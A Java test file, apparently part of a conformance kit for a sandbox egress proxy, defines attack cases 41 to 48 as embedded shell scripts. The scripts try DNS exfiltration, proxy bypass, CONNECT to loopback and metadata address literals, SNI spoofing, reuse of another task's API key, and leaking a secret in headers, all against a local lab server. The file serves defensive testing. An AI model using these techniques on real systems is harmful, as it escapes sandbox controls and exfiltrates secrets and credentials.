package dev.cordon.tck.capsule;

import dev.cordon.core.Rule;
import java.util.List;

/**
 * Cases 41 to 48: ways out. Where a way is open, what passes it properly is the control; where none is, the same attack
 * without a capsule is. The lab's server must hear nothing that it should not.
 */
final class Network {
    /** Leads to the lab's server: by TLS only, by plain HTTP only, and by anything. */
    private static final String TLS_ONLY = "allowed.lab:$PORT=127.0.0.1";

    private static final String PLAIN_ONLY = "http://allowed.lab:$PORT=127.0.0.1";
    private static final String ANYTHING = "tcp://allowed.lab:$PORT=127.0.0.1";

    /** Pauses, because what follows a CONNECT has to wait for its answer. */
    private static final String TUNNEL = """
            say() { { printf "$@"; sleep 0.3; } | socat -t 0.3 - TCP:127.0.0.1:7373; }
            tunnel() { { printf 'CONNECT allowed.lab:%s HTTP/1.1\\r\\nHost: allowed.lab:%s\\r\\n\\r\\n' $PORT $PORT; sleep 0.3; cat "$1"; sleep 0.3; } | socat -t 0.3 - TCP:127.0.0.1:7373; }
            """;

    static final List<AttackCase> CASES = List.of(
            new AttackCase(
                    41,
                    "DNS exfiltration",
                    Rule.C27,
                    Script.of("""
                            printf one.exfil.invalid | socat -u - UDP-SENDTO:127.0.0.1:$UDP
                            if [ -n "$CORDON_URL" ]; then
                                getent hosts one.exfil.invalid && echo crossed a name was resolved
                                grep '^nameserver' /etc/resolv.conf && echo crossed a resolver is known
                                curl -sS -m 5 https://one.exfil.invalid/; true
                            fi
                            """)
                            .claims(
                                    "the name's refusal is not traced",
                                    seen -> seen.isTraced("egress.decided", "not-on-lane"))),
            new AttackCase(
                    42,
                    "plain HTTP past the proxy",
                    Rule.C25,
                    Script.of("""
                            curl -sS -m 5 --noproxy '*' http://127.0.0.1:$PORT/plain
                            [ -n "$CORDON_URL" ] && curl -sS -m 5 http://allowed.lab:$PORT/plain; true
                            """)
                            .asking(ask -> ask.allowed(List.of(TLS_ONLY)))
                            .claims(
                                    "the server was reached",
                                    seen -> seen.heard().contacts() == 0)
                            .claims(
                                    "the refusal is not traced",
                                    seen -> seen.isTraced("egress.decided", "plain-http"))),
            new AttackCase(
                    43,
                    "CONNECT to an address in place of a name",
                    Rule.C27,
                    Script.of(TUNNEL + """
                            curl -sS -m 5 -p -x "$CORDON_URL" http://allowed.lab:$PORT/named | grep -q arrived && echo control ok
                            for at in 127.0.0.1 127.1 2130706433 0x7f.0.0.1 0177.0.0.1 '[::1]' '[::ffff:127.0.0.1]' 169.254.169.254; do
                                say 'CONNECT %s:%s HTTP/1.1\\r\\nHost: %s:%s\\r\\n\\r\\nGET /literal HTTP/1.0\\r\\n\\r\\n' $at $PORT $at $PORT &
                            done
                            wait
                            """)
                            .provenInside()
                            .asking(ask -> ask.allowed(List.of(ANYTHING)))
                            .claims(
                                    "the server was reached",
                                    seen -> seen.heard().contacts() == 1)
                            .reports(Rule.C27, "address-literal")),
            new AttackCase(
                    44,
                    "SNI differs from Host",
                    Rule.C27,
                    Script.of(TUNNEL + """
                            tunnel "$KIT/right.hello" | grep -q arrived && echo control ok
                            printf 'GET /plain HTTP/1.0\\r\\n\\r\\n' >plain; printf 'CONNECT elsewhere.lab:443 HTTP/1.1\\r\\nHost: elsewhere.lab\\r\\n\\r\\n' >nested
                            for what in "$KIT/other.hello" plain nested; do tunnel "$what" & done; wait
                            """)
                            .provenInside()
                            .asking(ask -> ask.allowed(List.of(TLS_ONLY)))
                            .claims(
                                    "another name was let out",
                                    seen -> !seen.heard().text().contains("other.lab"))
                            .claims(
                                    "what is no TLS was let out",
                                    seen -> !seen.heard().text().contains("HTTP/1."))
                            .reports(Rule.C27, "sni-mismatch")
                            .reports(Rule.C27, "not-tls")
                            .reports(Rule.C27, "nested-connect")),
            new AttackCase(
                    45,
                    "allowed name that leads to loopback or a metadata address",
                    Rule.C27,
                    new HostileNames(Script.of("""
                            curl -sS -m 5 http://allowed.lab:$PORT/pinned | grep -q arrived && echo control ok
                            curl -sS -m 5 --noproxy '' -x "$CORDON_URL" http://localhost:$PORT/loopback
                            """)
                            .provenInside()
                            .asking(ask -> ask.allowed(List.of(PLAIN_ONLY, "http://localhost:$PORT")))
                            .claims(
                                    "loopback was reached",
                                    seen -> !seen.heard().text().contains("/loopback"))
                            .reports(Rule.C27, "address-forbidden"))),
            new AttackCase(46, "--no-proxy", Rule.C27, Script.of("""
                            for name in http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY JAVA_TOOL_OPTIONS; do unset $name; done
                            curl -sS -m 5 --noproxy '*' http://127.0.0.1:$PORT/; curl -sS -m 5 "http://[::1]:$PORT/"
                            wget -T 5 -t 1 -qO- --no-proxy http://127.0.0.1:$PORT/; echo x | socat -t 1 - TCP:127.0.0.1:$PORT
                            [ -n "$CORDON_URL" ] && ip -o addr 2>/dev/null | grep -vw lo && echo crossed there is an interface; true
                            """)),
            new AttackCase(
                    47,
                    "another task's proxy credential",
                    Rule.C4,
                    Script.of("""
                            code() { curl -sS -m 5 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $1" -d '{"model":"m"}' "$OPENAI_BASE_URL/chat/completions"; }
                            case $(code "$OPENAI_API_KEY") in 000|401) ;; *) echo control ok;; esac
                            case $(code "$NEIGHBOUR_KEY") in 401) ;; *) echo crossed the key passes;; esac
                            ls "$DOORS" && echo crossed its door is seen
                            [ ${#NEIGHBOUR_KEY} -gt 30 ] && [ "$NEIGHBOUR_KEY" != "$OPENAI_API_KEY" ] || echo crossed it has no key of its own
                            """).provenInside().reports(Rule.C4, "foreign-key")),
            new AttackCase(
                    48,
                    "a header that carries a secret",
                    Rule.C23,
                    Script.of(Secrets.MAKE + """
                            curl -sS -m 5 -H 'X-Note: nothing' http://allowed.lab:$PORT/clean | grep -q arrived && echo control ok
                            curl -sS -m 5 -H "X-Note: $key" http://allowed.lab:$PORT/; curl -sS -m 5 -H "Cookie: a=$key" http://allowed.lab:$PORT/
                            """)
                            .provenInside()
                            .asking(ask -> ask.allowed(List.of(PLAIN_ONLY)))
                            .claims(
                                    "the secret left",
                                    seen -> !seen.heard().text().contains("ghp_"))
                            .reports(Rule.C23, "secret-found")));

    private Network() {}
}
